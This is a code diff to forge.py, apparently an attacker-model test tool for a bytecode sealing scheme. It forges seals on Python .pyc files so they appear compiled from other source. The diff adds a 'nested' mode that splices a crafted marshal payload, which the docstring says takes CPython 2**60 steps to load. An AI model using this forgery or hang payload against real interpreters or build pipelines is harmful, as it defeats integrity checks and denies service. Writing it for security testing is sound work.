@@ -1,7 +1,8 @@
 # SPDX-License-Identifier: MIT
 """forge.py CODE SOURCE TARGET [KIND]: what an attacker makes: bytecode of CODE with a seal
-(docs/seal.md) as if it had been compiled of SOURCE. KIND is `time` (the default) or `hash`,
-an unchecked hash-based pyc. Of the interpreter that runs it."""
+(docs/seal.md) as if it had been compiled of SOURCE. KIND is `time` (the default), `hash`, an
+unchecked hash-based pyc, or `nested`, in which the string NESTED becomes a tuple that CPython
+takes 2**60 steps to load. Of the interpreter that runs it."""
 import hashlib
 import importlib.util
 import marshal
@@ -39,13 +40,22 @@ def seal(pyc, claimed, mtime, flags):
     return start + struct.pack("<Q", checksum(start))
 
 
+def nested(code):
+    before, mark, after = marshal.dumps(code, 2).partition(marshal.dumps("NESTED", 2))
+    data = b"\xa9\x02NN"  # (None, None); "r" refers to what began as the i-th with \x80
+    for i in range(60, 0, -1):
+        data = b"\xa9\x02" + data + b"r" + struct.pack("<I", i)
+    return before + data + after
+
+
 def forge(code, claimed, mtime=0, kind="time"):
     if kind == "hash":
         head = struct.pack("<I", 1) + hashlib.blake2b(claimed, digest_size=8).digest()
     else:
         head = struct.pack("<III", 0, mtime, len(claimed))[16 - HEADER:]
-    pyc = importlib.util.MAGIC_NUMBER + head + marshal.dumps(compile(code, "forged", "exec"))
-    return pyc + seal(pyc, claimed, mtime if kind == "time" else 0,
+    dump = nested if kind == "nested" else marshal.dumps
+    pyc = importlib.util.MAGIC_NUMBER + head + dump(compile(code, "forged", "exec"))
+    return pyc + seal(pyc, claimed, 0 if kind == "hash" else mtime,
                       SOURCE | HASH if kind == "hash" else SOURCE)
 
 
